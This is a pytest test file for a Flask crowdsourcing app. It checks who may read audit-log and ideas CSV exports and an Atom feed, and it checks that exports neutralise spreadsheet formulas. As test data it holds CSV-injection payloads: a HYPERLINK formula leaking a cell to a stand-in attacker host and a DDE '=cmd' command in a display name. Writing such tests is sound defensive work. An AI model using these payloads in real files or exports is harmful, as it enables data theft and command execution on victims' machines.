"""Exports: the audit log (page and CSV), the ideas CSV and the Atom feed, each through the policy."""

import csv
import io
import xml.etree.ElementTree as ET

import pytest
from flask import g
from sqlalchemy import select

from crowdspirit.audit.models import AuditEvent
from crowdspirit.extensions import db

ATOM = "{http://www.w3.org/2005/Atom}"
HIDDEN = {f"policy_{stage}": "project" for stage in ("idea", "vote", "spec", "partner_rnd")}
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def rows(response) -> list[list[str]]:
    """The CSV body as rows (header first)."""
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def visitor(app):
    """A signed-out client (Flask-Login caches the last user in the test's long-lived app context)."""
    g.pop("_login_user", None)
    return app.test_client()


def as_user(app, client, login_as, user):
    """The client signed in as user, or a signed-out client for None."""
    if user is None:
        return visitor(app)
    login_as(user)
    return client


@pytest.fixture
def ideas(make_user, make_project, make_idea, add_member):
    """A project with a public idea, a formula-titled public idea and a confidential spec (ideas.<name>)."""

    class Ideas:
        project = make_project(policy_spec="confidential")
        public = make_idea(project=project, title="Open earbuds")
        formula = make_idea(project=project, title=FORMULA)
        secret = make_idea(project=project, title="Secret earbuds", stage="spec")
        member = make_user(name="Mia Member")

    add_member(Ideas.project, Ideas.member)
    return Ideas


# --- Audit log --------------------------------------------------------------------------------
@pytest.mark.parametrize("who, gates, code", [
    ("owner", {}, 200),
    ("admin", {}, 200),
    ("moderator", {}, 403),
    ("contributor", {}, 403),
    ("outsider", {}, 403),
    ("outsider", HIDDEN, 404),
], ids=["owner", "admin", "project-moderator", "contributor", "outsider-visible", "outsider-hidden"])
@pytest.mark.parametrize("path", ["audit", "audit.csv"])
def test_who_reads_the_audit_log(client, login_as, make_user, make_project, add_member, who, gates, code, path):
    """The owner and admins read the audit log; members get 403; who may not see the project 404."""
    project = make_project(**gates)
    user = {"owner": project.owner, "admin": make_user(admin=True)}.get(who) or make_user()
    if who in ("moderator", "contributor"):
        add_member(project, user, role=who)
    login_as(user)
    response = client.get(f"/projects/{project.slug}/{path}")
    assert response.status_code == code
    assert ("policy.changed" in response.text) == (code == 200)


def test_audit_page_lists_events(client, login_as, make_project):
    """The audit page shows each event's action and target."""
    project = make_project(title="Quiet bike")
    login_as(project.owner)
    page = client.get(f"/projects/{project.slug}/audit").text
    assert "<code>project.created</code>" in page and "<code>policy.changed</code>" in page
    assert "Quiet bike" in page


def test_audit_csv_has_one_row_per_event(client, login_as, make_user, make_project, add_member):
    """The CSV has a header row, then one row per event of the project, newest first."""
    project = make_project()
    make_project(title="Another project")  # its events must not leak in
    member = make_user()
    login_as(member)
    client.post(f"/projects/{project.slug}/join", data={"message": "hello"})
    login_as(project.owner)
    response = client.get(f"/projects/{project.slug}/audit.csv")
    assert response.mimetype == "text/csv" and response.headers["Cache-Control"] == "private, no-store"
    assert response.headers["Content-Disposition"] == f'attachment; filename="{project.slug}-audit.csv"'
    header, *body = rows(response)
    assert header == ["id", "time_utc", "actor", "action", "target", "details", "ip_address"]
    expected = db.session.scalars(select(AuditEvent.id).filter_by(project_id=project.id)
                                  .order_by(AuditEvent.id.desc())).all()
    assert [int(row[0]) for row in body] == expected
    assert [row[3] for row in body] == ["membership.requested", "policy.changed", "project.created"]
    assert body[0][4:] == [member.display_name, "hello", "127.0.0.1"]


def test_audit_csv_neutralises_formula_names(client, login_as, make_user, make_project):
    """A display name that looks like a formula is written with a leading quote."""
    project = make_project()
    login_as(make_user(name="=cmd|'/c calc'!A1"))
    client.post(f"/projects/{project.slug}/join", data={"message": "+SUM(1,2)"})
    login_as(project.owner)
    event = rows(client.get(f"/projects/{project.slug}/audit.csv"))[1]
    assert event[2:6] == ["'=cmd|'/c calc'!A1", "membership.requested", "'=cmd|'/c calc'!A1", "'+SUM(1,2)"]


# --- Ideas CSV --------------------------------------------------------------------------------
@pytest.mark.parametrize("who, sees_secret", [
    ("anonymous", False),
    ("outsider", False),
    ("member", True),
    ("owner", True),
    ("admin", True),
])
def test_ideas_csv_lists_what_the_requester_may_see(app, client, login_as, make_user, ideas, who, sees_secret):
    """The ideas CSV holds exactly the ideas the requester may see (no confidential ones for outsiders)."""
    user = {"anonymous": None, "outsider": make_user(), "member": ideas.member,
            "owner": ideas.project.owner, "admin": make_user(admin=True)}[who]
    response = as_user(app, client, login_as, user).get(f"/projects/{ideas.project.slug}/ideas.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    header, *body = rows(response)
    assert header == ["id", "title", "stage", "votes", "author", "created_utc", "tags"]
    expected = {ideas.public.id, ideas.formula.id} | ({ideas.secret.id} if sees_secret else set())
    assert {int(row[0]) for row in body} == expected
    assert ("Secret earbuds" in response.text) == sees_secret


def test_ideas_csv_hides_confidential_from_member_without_nda(client, login_as, ideas):
    """Once an NDA exists, a member who has not accepted it does not get confidential ideas."""
    login_as(ideas.project.owner)
    assert client.post(f"/projects/{ideas.project.slug}/nda/edit", data={"text": "Secret"}).status_code == 303
    login_as(ideas.member)
    body = rows(client.get(f"/projects/{ideas.project.slug}/ideas.csv"))[1:]
    assert {int(row[0]) for row in body} == {ideas.public.id, ideas.formula.id}


def test_ideas_csv_neutralises_formula_titles(client, login_as, ideas):
    """A title that looks like a formula is written with a leading quote."""
    login_as(ideas.project.owner)
    body = rows(client.get(f"/projects/{ideas.project.slug}/ideas.csv"))[1:]
    title = next(row[1] for row in body if int(row[0]) == ideas.formula.id)
    assert title == "'" + FORMULA


def test_ideas_csv_of_hidden_project_is_404(client, login_as, make_user, make_project, make_idea):
    """Who may not see the project gets 404 for its ideas CSV."""
    project = make_project(**HIDDEN)
    make_idea(project=project, title="Hidden earbuds")
    login_as(make_user())
    response = client.get(f"/projects/{project.slug}/ideas.csv")
    assert response.status_code == 404 and "Hidden earbuds" not in response.text


# --- Atom feed --------------------------------------------------------------------------------
def feed_titles(response) -> list[str]:
    """The entry titles of an Atom feed (parsing fails on invalid XML)."""
    root = ET.fromstring(response.data)
    assert root.tag == f"{ATOM}feed"
    return [entry.findtext(f"{ATOM}title") for entry in root.iter(f"{ATOM}entry")]


@pytest.mark.parametrize("who", ["anonymous", "nda-signer", "owner"])
def test_feed_lists_only_public_ideas(app, client, login_as, ideas, who):
    """The feed is valid Atom with only the ideas visitors may see, whoever asks for it."""
    login_as(ideas.project.owner)
    client.post(f"/projects/{ideas.project.slug}/nda/edit", data={"text": "Secret"})
    if who == "nda-signer":
        login_as(ideas.member)
        assert client.post(f"/projects/{ideas.project.slug}/nda/accept", data={"version": 1}).status_code == 303
        assert client.get(f"/ideas/{ideas.secret.id}").status_code == 200
    user = {"anonymous": None, "nda-signer": ideas.member, "owner": ideas.project.owner}[who]
    response = as_user(app, client, login_as, user).get(f"/projects/{ideas.project.slug}/feed.atom")
    assert response.status_code == 200 and response.mimetype == "application/atom+xml"
    assert sorted(feed_titles(response)) == sorted(["Open earbuds", FORMULA])
    assert "Secret earbuds" not in response.text


def test_feed_escapes_markup_in_titles(app, make_project, make_idea):
    """Titles with XML special characters still give a well-formed feed."""
    project = make_project()
    make_idea(project=project, title="Earbuds <b> & \"quotes\" ]]>")
    assert feed_titles(visitor(app).get(f"/projects/{project.slug}/feed.atom")) == ["Earbuds <b> & \"quotes\" ]]>"]


@pytest.mark.parametrize("signed_in", [False, True])
def test_feed_of_project_without_public_stage_is_404(app, client, login_as, make_project, make_idea, signed_in):
    """A project with no public stage has no feed, even for its signed-in owner."""
    project = make_project(**{f"policy_{s}": "community" for s in ("idea", "vote", "spec", "partner_rnd")})
    make_idea(project=project, title="Members-only earbuds")
    reader = as_user(app, client, login_as, project.owner if signed_in else None)
    response = reader.get(f"/projects/{project.slug}/feed.atom")
    assert response.status_code == 404 and "Members-only earbuds" not in response.text
